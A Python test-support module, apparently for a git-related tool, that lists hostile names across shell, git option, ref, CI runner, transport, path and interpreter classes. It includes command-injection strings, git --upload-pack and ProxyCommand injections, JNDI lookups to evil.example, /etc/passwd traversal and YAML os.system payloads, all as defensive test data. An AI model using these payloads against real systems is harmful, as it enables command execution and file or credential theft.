"""Names that want something of whoever uses them: of a shell, of git, of a runner, of a path, of a reader."""

import hashlib
import subprocess

from tests.publishing.hostile import HOSTILE

MARK = "PWNED-BY-A-NAME"
"""The file that every command in a name would make."""
_TOUCH = f"touch${{IFS}}{MARK}"
SHELL = tuple(
    form.replace("@", _TOUCH)
    for form in (
        *("$(@)", "`@`", ";@", ";@;#", "|@", "||@", "&&@", "&@&", "x;@;x", "$(@)/$(@)", "'$(@)'", '"$(@)"'),
        *("'`@`'", "$((`@`))", "{touch,MARK}", ">MARK", ">>MARK", "x>MARK;x", "<(@)", ">(@)", "!@", "'@'"),
        *("';@;'", '";@;"', "$'@'", "a$(@)b", "${x:-`@`}", "\\$(@)", "%0a@", "%3b@", "-c@", "x\n@\n", "x\r@"),
        *(
            "$(touch MARK)",
            "`touch MARK`",
            "; touch MARK #",
            "| touch MARK",
            "${{ github.token }}",
            "$@",
            "!!",
        ),
    )
)
OPTIONS = (
    *(
        f"--upload-pack={_TOUCH}",
        f"--receive-pack={_TOUCH}",
        f"--exec={_TOUCH}",
        f"-u{_TOUCH}",
        "-o@",
        "-ofoo",
    ),
    *(f"--output={MARK}", f"-o{MARK}", f"--output-directory={MARK}", f"--git-dir={MARK}", f"-C{MARK}"),
    *(
        f"--config=core.pager={_TOUCH}",
        f"-ccore.fsmonitor={_TOUCH}",
        f"--template={MARK}",
        "--mirror",
        "--all",
    ),
    *("--delete", "--force", "-f", "--", "---", "-", "-d", "--help", "--version", "--prune", "--stdin", "--"),
    *(f"-p{_TOUCH}", f"--override-ini=x={MARK}", f"--basetemp={MARK}", "--rootdir=/", "-n0", "@/etc/passwd"),
)
REFS = (
    *(
        "HEAD",
        "refs/heads/main",
        "heads/main",
        "refs/pull/1/head",
        "@",
        "@{-1}",
        "@{u}",
        "main@{1}",
        "FETCH_HEAD",
    ),
    *(
        "main..evil",
        "main...evil",
        "^main",
        ":main",
        "+main:main",
        "refs/heads/*:refs/heads/*",
        "main~1",
        "main^0",
    ),
    *(":/fix", "stash", "ratchet/x", "ratchet/../main", "../main", "refs/tags/v1", "0" * 40, "deadbeef" * 5),
    *("x.lock", "a//b", "a/", "/a", ".a", "a.", "a/.b", "a\\b", "a b", "refs/heads/ratchet/x", "origin/main"),
    *("ratchet", "Ratchet/x", "rátchet/x", "refs/fetched/x", "refs/pushed/x", "config", "objects", "hooks"),
)
RUNNER = (
    *(
        "::error::owned",
        "::error file=a,line=1::owned",
        "x\n::error::owned",
        "%0a::error::x",
        "##[error]owned",
    ),
    *(
        "::set-output name=outcome::verified",
        "::add-mask::x",
        "::stop-commands::x",
        "::set-env name=PATH::/x",
    ),
    *(
        "x%0D%0A::warning::x",
        "::endgroup::",
        "##vso[task.complete result=Succeeded;]",
        "outcome=verified\nx=1",
    ),
    *("a\r\nX-Evil: 1", "a\nSet-Cookie: x=1", "\x1b[2Jx", "x\x00y", "\x07\x08", "<<EOF\nx\nEOF"),
)
TRANSPORTS = (
    *(
        f"ext::sh -c touch% {MARK}",
        f"ext::{_TOUCH}",
        "file:///etc/passwd",
        f"ssh://-oProxyCommand={_TOUCH}/x",
    ),
    *(
        "git://evil.example/x",
        "fd::17",
        "https://evil.example/x.git",
        "evil.example:x.git",
        "http://169.254.169.254/",
    ),
)
PATHS = (
    *(
        f"../../../../{MARK}",
        f"/{MARK}",
        f"/tmp/{MARK}",
        "/etc/passwd",
        f"a/../../{MARK}",
        "..\\..\\x",
        "C:\\x",
    ),
    *(".git/hooks/post-checkout", ".git/config", ".GIT/config", "git~1/config", f"~/{MARK}", "%2e%2e%2fx"),
    *(
        ".ratchet.toml",
        ".gitattributes",
        ".gitmodules",
        ".gitconfig",
        "AGENTS.md",
        "conftest.py",
        "pytest.ini",
    ),
    *(
        "CON",
        "nul",
        "a" * 255,
        "x/" * 100 + "x",
        "...",
        ". .",
        " ",
        "a\tb",
        "a\nb",
        "a\\nb",
        "a'b",
        'a"b',
        "a*b?",
    ),
)
INTERPRETED = (
    *(
        "'; DROP TABLE tasks;--",
        "1 OR 1=1",
        "%s%n%x",
        "{0.__class__.__init__}",
        "{{7*7}}",
        "#{7*7}",
        "<%= 7*7 %>",
    ),
    *(
        "${jndi:ldap://evil.example/x}",
        "__proto__",
        '"}],"x":[{"y":"',
        "!!python/object/apply:os.system ['x']",
    ),
    *(
        "(a+)+$",
        "[!a]*",
        "*",
        "?",
        "**/*",
        "../*",
        "ann\u202egnp.exe",
        "\u2066x\u2069",
        "\u0430\u0301nn",
        "\uff21\uff2e\uff2e",
        "ann ",
    ),
    *(
        "[bot]",
        "ratchet[bot]",
        "github-actions[bot]",
        "ghost",
        "ANN",
        "ann/../../orgs",
        "ann?x=1",
        "ann#x",
        "ann%2f",
    ),
)
CLASSES = tuple(
    tuple(value.replace("MARK", MARK) for value in one)
    for one in (SHELL, OPTIONS, REFS, RUNNER, TRANSPORTS, PATHS, INTERPRETED)
)
_READERS = tuple(text for text in HOSTILE[:120] if text.strip() and "\udcff" not in text)
NAMES = tuple(dict.fromkeys(value for one in (*CLASSES, _READERS) for value in one))
"""All of them, each once."""
FEW = tuple(value for one in (*CLASSES, _READERS) for value in one[:: len(one) // 6])[:48]
"""Some of each class."""


def branch_like(name: str) -> str:
    """Return the most hostile name of a branch that git takes and that has a name in it."""
    tame = "".join(char if char.isprintable() and char not in " ~^:?*[\\" else "_" for char in name)
    for wanted in (
        name,
        name.strip("/."),
        tame,
        tame.replace("..", "._").replace("//", "/_").strip("/.") + "_",
    ):
        if is_ref(f"refs/heads/{wanted}"):
            return wanted
    return f"x{hashlib.sha256(name.encode()).hexdigest()[:12]}"


def is_ref(name: str) -> bool:
    """Say whether git takes a name for a ref."""
    if (
        "\x00" in name
        or len(name.encode()) > 200
        or any(len(part.encode()) > 200 for part in name.split("/"))
    ):
        return False
    return subprocess.run(["git", "check-ref-format", name], check=False).returncode == 0


def is_file(name: str) -> bool:
    """Say whether git takes a name for a file."""
    parts = name.split("/")
    plain = all(char.isprintable() or char in "\n\t" for char in name)
    strange = {"", ".", "..", ".git", "git~1"}
    fits = all(part.casefold() not in strange and len(part.encode()) <= 255 for part in parts)
    return plain and fits and len(name.encode()) < 3000


def pairs(names: tuple[str, ...], each: int) -> list[tuple[str, ...]]:
    """Return names in groups of a size; the last begins with some of the one before if need be."""
    last = len(names) - each
    return [names[min(at, last) :][:each] for at in range(0, len(names), each)]
